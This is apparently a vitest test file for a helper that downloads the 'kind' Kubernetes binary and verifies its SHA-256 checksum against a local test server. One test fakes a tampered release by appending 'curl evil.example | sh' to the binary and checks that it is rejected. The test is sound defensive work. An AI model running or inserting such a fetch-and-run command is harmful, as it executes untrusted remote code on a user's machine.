import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test, vi } from 'vitest'
import { findKind, kindVersion } from './kind.ts'

const binary = '#!/bin/sh\necho "kind fetched"\n'
let folder: string
let server: Server
let releases: string
/** What the release page has: the path's last part -> its bytes. */
let published: Record<string, string>

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'find-kind-'))
  vi.stubEnv('PATH', join(folder, 'empty'))
  const machine = process.arch === 'x64' ? 'amd64' : process.arch
  const name = `kind-${process.platform}-${machine}`
  published = { [name]: binary, [`${name}.sha256sum`]: `${createHash('sha256').update(binary).digest('hex')}  ${name}\n` }
  server = createServer((request, response) => {
    const body = request.url?.startsWith(`/${kindVersion}/`) ? published[request.url.split('/')[2] ?? ''] : undefined
    response.writeHead(body === undefined ? 404 : 200).end(body)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  releases = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})

afterEach(async () => {
  vi.unstubAllEnvs()
  server.close()
  await rm(folder, { recursive: true, force: true })
})

const cache = () => join(folder, 'cache')

test('the official release is fetched once and can be run', async () => {
  const file = await findKind(cache(), releases)
  expect(execFileSync('/bin/sh', [file], { encoding: 'utf8' })).toBe('kind fetched\n')
  server.close()
  expect(await findKind(cache(), 'http://127.0.0.1:1')).toBe(file)
})

test('one that is not what its checksum says is not kept', async () => {
  for (const name of Object.keys(published)) if (!name.endsWith('sum')) published[name] = `${binary}curl evil.example | sh\n`
  await expect(findKind(cache(), releases)).rejects.toMatchObject({
    message: expect.stringContaining('its checksum is not the published one'),
    text: { zh: expect.stringContaining('校验和') },
  })
  await expect(readdir(cache())).rejects.toThrow('ENOENT')
})

test('where there is none the sentence says what to do', async () => {
  published = {}
  await expect(findKind(cache(), releases)).rejects.toThrow(/could not be downloaded \(404\)\. Put kind \(0\.30 or later/)
  await expect(findKind(cache(), 'http://127.0.0.1:1')).rejects.toThrow(/could not be downloaded\. Put kind/)
})
